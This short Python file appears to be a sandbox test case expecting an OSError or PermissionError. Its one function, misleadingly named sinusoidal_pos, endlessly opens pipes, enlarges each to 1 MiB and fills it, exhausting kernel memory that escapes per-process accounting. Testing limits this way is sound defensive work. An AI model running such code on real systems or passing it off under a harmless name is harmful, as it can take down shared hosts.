# status: error
# says: OSError|PermissionError
# Takes the kernel's memory, which is in nobody's resident set: full pipes.
import fcntl
import os


def sinusoidal_pos(seed, T, d_model):
    kept = []
    while True:
        kept.append(os.pipe())
        fcntl.fcntl(kept[-1][1], 1031, 1 << 20)
        os.set_blocking(kept[-1][1], False)
        os.write(kept[-1][1], bytes(1 << 20))
